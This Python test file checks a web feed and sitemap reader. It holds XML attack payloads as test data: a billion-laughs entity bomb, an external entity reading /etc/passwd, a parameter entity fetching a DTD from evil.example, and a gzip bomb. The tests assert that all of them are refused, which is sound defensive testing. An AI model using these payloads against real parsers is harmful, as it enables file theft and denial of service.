"""Feeds and sitemaps give their addresses, and attacks in them give nothing."""

from __future__ import annotations

import gzip

import pytest
from hypothesis import given
from hypothesis import strategies as st

from testimonia.stages.collect.web import feeds

BASE = "https://post.example/feed"


def addresses(body):
    return [pointer.address for pointer in feeds.read(body, BASE).pointers]


RSS = b"""<?xml version="1.0"?><rss version="2.0"><channel><link>https://post.example/</link>
<item><title>A &nbsp; &amp; B</title><link>https://post.example/1</link><pubDate>Tue, 03 Jun 2014 10:00:00 GMT</pubDate></item>
<item><guid>https://post.example/2</guid></item>
<item><guid isPermaLink="false">tag:3</guid><link>/3?a=1&amp;b=2</link></item>
<item><title>no address</title></item><item><link>javascript:alert(1)</link></item><item><link>file:///etc/passwd</link></item>
<item><link>https://post.example/1</link></item></channel></rss>"""
ATOM = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://post.example/news/"><link href="/"/>
<entry><link rel="self" href="/self"/><link rel="alternate" href="1"/><updated>2014-06-03</updated></entry><entry><link href="2"/></entry></feed>"""
RDF = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><link>x</link></channel>
<item rdf:about="y"><link>https://post.example/9</link></item></rdf:RDF>"""
SITEMAP = b"""<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:i="http://www.google.com/schemas/sitemap-image/1.1">
<url><loc> https://post.example/a </loc><i:image><i:loc>https://post.example/a.jpg</i:loc></i:image><lastmod>2014-06-03</lastmod></url></urlset>"""
INDEX = b"""<sitemapindex><sitemap><loc>https://post.example/s1.xml.gz</loc></sitemap></sitemapindex>"""


@pytest.mark.parametrize(
    ("body", "kind", "expected"),
    [
        (RSS, "feed", ["https://post.example/1", "https://post.example/2", "https://post.example/3?a=1&b=2"]),
        (ATOM, "feed", ["https://post.example/news/1", "https://post.example/news/2"]),
        (RDF, "feed", ["https://post.example/9"]),
        (SITEMAP, "sitemap", ["https://post.example/a"]),
        (INDEX, "sitemaps", ["https://post.example/s1.xml.gz"]),
    ],
    ids=["rss", "atom", "rdf", "sitemap", "index"],
)
def test_every_kind_gives_its_addresses_in_order_and_once(body, kind, expected):
    """RSS, Atom, RSS 1.0, sitemaps and lists of them are told apart by their first element; only web addresses come out."""
    assert feeds.is_listing(body)
    assert feeds.is_listing(b"\xef\xbb\xbf<!-- made by x -->\n" + body.partition(b"?>")[2].lstrip() if body.startswith(b"<?") else body)
    assert feeds.read(body, BASE).kind == kind
    assert addresses(body) == expected


def test_dates_and_titles_stand_beside_the_address():
    """What an entry says of itself is kept as it says it."""
    first = feeds.read(RSS, BASE).pointers[0]
    assert first.title == "A & B"
    assert first.stated == "Tue, 03 Jun 2014 10:00:00 GMT"


BOMB = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha">%s]><rss><channel><item><link>https://post.example/1</link><title>&e9;</title></item>
</channel></rss>""" % b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 100 if n else b"&a;" * 100) for n in range(10))
XXE = b"""<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><link>https://post.example/1</link><title>&x;</title></item></channel></rss>"""
PARAMETER = b"""<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss><channel><item><link>https://post.example/1</link></item></channel></rss>"""
IN_ATTRIBUTE = b"""<!DOCTYPE feed [<!ENTITY a "https://post.example/1">]><feed><entry><link href="&a;"/></entry></feed>"""


@pytest.mark.parametrize("body", [BOMB, XXE, PARAMETER, IN_ATTRIBUTE], ids=["laughs", "file", "parameter", "attribute"])
def test_a_feed_that_declares_entities_is_refused(body):
    """Billion laughs, files and addresses named as entities, and entities in attributes: nothing is expanded, fetched or taken."""
    assert feeds.is_listing(body)
    listing = feeds.read(body, BASE)
    assert listing.pointers == []
    assert "entities" in listing.fault


def test_a_document_type_elsewhere_is_not_fetched(monkeypatch):
    """The old document type of RSS 0.91 names an address; nobody goes there, and the feed is read."""
    body = b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.example/rss.dtd">' + RSS.partition(b"?>")[2]
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("something was fetched"))
    assert addresses(body)[0] == "https://post.example/1"


@pytest.mark.parametrize(
    "body",
    [
        b"<rss>" + b"<a>" * 1_000_000,
        b"<rss><channel><item><link>" + b"a" * 3_000_000,
        b"<urlset>" + b"<url><loc>https://post.example/x</loc>" * 200,
    ],
)
def test_depth_and_length_are_bounded(body):
    """A million elements in one another, or an address of megabytes, end the reading with a reason."""
    listing = feeds.read(body, BASE)
    assert listing.fault
    assert len(listing.pointers) <= 1


def test_a_feed_that_breaks_off_gives_what_came_before():
    """Half a feed gives half its addresses and says that it is broken."""
    listing = feeds.read(RSS[: RSS.index(b"<item><guid isPerma")], BASE)
    assert [pointer.address for pointer in listing.pointers] == ["https://post.example/1", "https://post.example/2"]
    assert "broken" in listing.fault


def test_a_packed_sitemap_is_unpacked_within_bounds():
    """sitemap.xml.gz is read; a bomb of one unpacks to the limit and no further."""
    assert feeds.unpacked(gzip.compress(SITEMAP)) == SITEMAP
    assert len(feeds.unpacked(gzip.compress(b"\0" * 50_000_000))) == feeds.LONGEST
    assert feeds.unpacked(b"\x1f\x8bbroken") == b""


@pytest.mark.parametrize(
    "body", [b"", b"<html><body>", b"<p>rss</p>", b"<html><feed>", b"%PDF-1.4", b"plain text about <rss>", b"<svg></svg>"]
)
def test_pages_are_no_feeds(body):
    """A page is never taken for a list of addresses."""
    assert not feeds.is_listing(body)


@given(st.binary(max_size=300))
def test_no_bytes_raise(data):
    """Whatever a server sends as a feed, reading it ends with a listing."""
    for body in (data, b"<rss>" + data, b"<feed><entry><link href='" + data):
        feeds.is_listing(body)
        assert isinstance(feeds.read(body, BASE), feeds.Listing)
